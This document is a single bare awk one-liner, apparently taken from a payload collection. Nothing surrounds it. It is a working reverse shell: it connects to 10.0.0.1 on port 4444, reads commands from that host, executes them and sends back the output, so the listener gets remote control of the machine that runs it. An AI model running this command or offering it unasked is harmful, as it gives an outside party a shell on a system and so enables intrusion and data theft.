awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4444"; while(42) { printf "$ " |& s; s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c) }}'
